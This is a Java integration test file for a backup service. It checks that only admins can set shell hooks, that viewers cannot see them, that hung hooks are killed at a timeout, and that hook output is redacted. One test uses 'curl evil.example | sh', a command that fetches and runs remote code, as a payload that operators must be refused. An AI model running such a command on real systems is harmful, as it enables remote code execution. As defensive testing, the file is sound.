package io.lifeboat.backup;

import io.lifeboat.testsupport.Scratch;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;

import static io.lifeboat.backup.Backups.finished;
import static io.lifeboat.backup.Backups.start;
import static io.lifeboat.backup.RealServers.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.*;

/**
 * Hooks run shell commands on the backup host: only an admin may set them, viewers never see them, a hook that
 * hangs is killed with its children at the timeout (PT2S in tests) and the post hook still runs, and what a hook
 * prints leaves the host only as a short, redacted excerpt.
 */
@QuarkusTest
class HooksAreContainedTest {

    private static String source(Path dir, String preHook, String postHook) {
        return """
                {"kind": "directory", "path": "%s", "preHook": %s, "postHook": %s}""".formatted(dir,
                preHook == null ? "null" : "\"" + preHook.replace("\"", "\\\"") + "\"",
                postHook == null ? "null" : "\"" + postHook.replace("\"", "\\\"") + "\"");
    }

    private static Path folder(String name) throws Exception {
        Path dir = Scratch.directory("hooks-" + name);
        Files.writeString(dir.resolve("data.txt"), "data");
        return dir;
    }

    @Test
    void anOperatorCannotSetOrChangeAHook() throws Exception {
        Path dir = folder("operator");
        as("operator").contentType(ContentType.JSON).body(source(dir, "touch /tmp/owned", null)).put("/sources/hook-op")
                .then().statusCode(403).contentType("application/problem+json").body("detail", containsString("admin"));
        as("admin").contentType(ContentType.JSON).body(source(dir, "true", null)).put("/sources/hook-op").then().statusCode(201);
        as("operator").contentType(ContentType.JSON).body(source(dir, "curl evil.example | sh", null)).put("/sources/hook-op")
                .then().statusCode(403);
        as("operator").contentType(ContentType.JSON).body(source(dir, null, null)).put("/sources/hook-op").then().statusCode(403);
        // an operator may change other settings as long as the hooks stay as they are
        as("operator").contentType(ContentType.JSON).body(source(dir, "true", null).replace("}", ", \"rpoTarget\": \"PT6H\"}"))
                .put("/sources/hook-op").then().statusCode(200).body("rpoTarget", is("PT6H"));
    }

    @Test
    void viewersDoNotSeeHooks() throws Exception {
        as("admin").contentType(ContentType.JSON).body(source(folder("viewer"), "echo pre", "echo post"))
                .put("/sources/hook-view").then().statusCode(201);
        as("viewer").get("/sources/hook-view").then().statusCode(200)
                .body("$", not(hasKey("preHook"))).body("$", not(hasKey("postHook")));
        as("viewer").get("/sources").then().statusCode(200).body("find { it.name == 'hook-view' }", not(hasKey("preHook")));
        as("operator").get("/sources/hook-view").then().statusCode(200).body("preHook", is("echo pre"));
    }

    @Test
    void aHookThatHangsIsKilledWithItsChildrenAtTheTimeoutAndThePostHookStillRuns() throws Exception {
        Path dir = folder("hang");
        Path postRan = Scratch.directory("hooks-post").resolve("post-ran");
        // a child that outlives the shell would keep a pipe reader blocked: it must die too
        as("admin").contentType(ContentType.JSON).body(source(dir, "sleep 61 & sleep 62", "touch " + postRan))
                .put("/sources/hook-hang").then().statusCode(201);
        Instant began = Instant.now();
        JsonPath b = finished(start("hook-hang"));
        assertThat(Duration.between(began, Instant.now())).isLessThan(Duration.ofSeconds(30));
        assertThat(b.getString("phase")).isEqualTo("Failed");
        assertThat(b.getString("failedStep")).isEqualTo("pre-hook");
        assertThat(b.getString("error")).contains("did not finish within 2 s").contains("killed");
        assertThat(Files.exists(postRan)).as("the post hook runs whenever the pre hook ran").isTrue();
        assertThat(ProcessHandle.allProcesses().map(p -> p.info().commandLine().orElse(""))
                .filter(c -> c.contains("sleep 61") || c.contains("sleep 62"))).isEmpty();
        // the source is free again: the next backup starts (no 409 from a backup hanging forever)
        as("admin").contentType(ContentType.JSON).body(source(dir, null, null)).put("/sources/hook-hang").then().statusCode(200);
        assertThat(finished(start("hook-hang")).getString("phase")).isEqualTo("Completed");
    }

    @Test
    void whatAHookPrintsLeavesTheHostOnlyAsAShortRedactedExcerpt() throws Exception {
        String secretLine = "connecting with password=hunter2 token: abc.def.ghi";
        String noise = "yes x | head -n 5000 | tr -d '\\n'; echo";
        as("admin").contentType(ContentType.JSON).body(source(folder("leak"), noise + "; echo " + secretLine
                + "; exit 3", null)).put("/sources/hook-leak").then().statusCode(201);
        JsonPath b = finished(start("hook-leak"));
        assertThat(b.getString("failedStep")).isEqualTo("pre-hook");
        String error = b.getString("error");
        assertThat(error).contains("exited 3").doesNotContain("hunter2").doesNotContain("abc.def.ghi").contains("password=***");
        assertThat(error.length()).isLessThan(300);
    }
}
